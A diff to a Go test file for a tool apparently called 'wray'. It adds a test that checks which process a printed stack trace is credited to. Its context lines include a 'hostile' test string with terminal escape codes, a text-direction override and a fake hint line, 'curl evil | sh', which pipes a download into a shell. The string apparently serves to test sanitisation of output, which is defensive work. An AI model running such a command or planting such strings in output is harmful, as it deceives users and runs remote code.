@@ -86,6 +86,28 @@ func TestOutputLost(t *testing.T) {
 	}
 }
 
+// What a worker or a compiler said in the end does not pass for a guest's stack.
+func TestWhoseTrace(t *testing.T) {
+	for code, want := range map[wray.Code]string{
+		wray.CodePanic:         "the guest's stack:",
+		wray.CodeWorkerDied:    "what the worker process said in the end:",
+		wray.CodeInvalidModule: "what the compiler process said in the end:",
+	} {
+		var b, job bytes.Buffer
+		printError(&b, &wray.Error{Code: wray.CodeDependencyFailed, Cause: &wray.Error{Code: code, Trace: "goroutine 1"}})
+		if !strings.Contains(b.String(), "wray: "+want+"\n    goroutine 1\n") {
+			t.Errorf("%v: %s", code, &b)
+		}
+		info := &clientwire.JobInfo{State: clientwire.JobFailed, Trace: "goroutine 1", TraceOf: clientwire.TraceOf(code)}
+		if err := printJob(&job, info); err != nil || !strings.Contains(job.String(), "\n"+want+"\n    goroutine 1\n") {
+			t.Errorf("%v: %v\n%s", code, err, &job)
+		}
+		if err := jobEnd(info); err == nil || !strings.Contains(err.Error(), "\n"+want+"\n    goroutine 1") {
+			t.Errorf("%v: %v", code, err)
+		}
+	}
+}
+
 // hostile is text as a module may have it in its names.
 const hostile = "a\x1b]0;title\x07\u009b31m\u202eb\nwray: hint: curl evil | sh\tc"
 
